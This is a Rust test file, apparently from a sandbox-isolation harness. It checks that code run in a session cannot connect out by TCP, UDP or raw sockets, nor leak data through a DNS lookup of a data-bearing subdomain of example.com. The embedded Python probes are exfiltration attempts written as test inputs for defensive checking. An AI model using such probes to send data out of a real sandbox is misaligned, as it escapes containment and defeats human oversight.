//! I: the network.

use crate::harness::{Case, Severity};

#[tokio::test(flavor = "multi_thread")]
async fn i1_connections() {
    let case = Case::begin(
        "I1",
        Severity::Exfil,
        "connect by TCP, UDP and ICMP, IPv4 and IPv6, to the host's loopback and outside",
        "each fails at once",
    )
    .await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // 192.0.2.0/24 and 2001:db8::/32 are for documentation: nobody is there.
    let code = format!(
        "import socket, time\nstarted = time.time()\nfor family, kind, address in [\n    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port})),\n    (socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 443)),\n    (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 443)),\n    (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)),\n    (socket.AF_INET6, socket.SOCK_DGRAM, ('2001:db8::1', 443)),\n    (socket.AF_INET, socket.SOCK_STREAM, ('172.17.0.1', 80)),\n    (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),\n]:\n    try:\n        s = socket.socket(family, kind, 1 if kind == socket.SOCK_RAW else 0)\n        s.settimeout(5); s.connect(address); s.send(b'x'); print('SENT', address)\n    except OSError: pass\nprint('at once' if time.time() - started < 1 else 'slowly')"
    );
    // The host itself reaches its listener.
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let session = case.session().await;
    assert_eq!(case.printed(&session, code).await, "at once\n");
    drop(listener);
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i4_names() {
    let case = Case::begin(
        "I4",
        Severity::Exfil,
        "getaddrinfo(data + '.example.com')",
        "no resolver: it fails at once, and nothing is sent",
    )
    .await;
    let session = case.session().await;
    let code = "import socket, time\nstarted = time.time()\ntry: print('LEAK', socket.getaddrinfo('7f3a.example.com', 80))\nexcept OSError as e: print(type(e).__name__)\nprint('at once' if time.time() - started < 1 else 'slowly')";
    assert_eq!(case.printed(&session, code).await, "gaierror\nat once\n");
    case.end([session]).await;
}
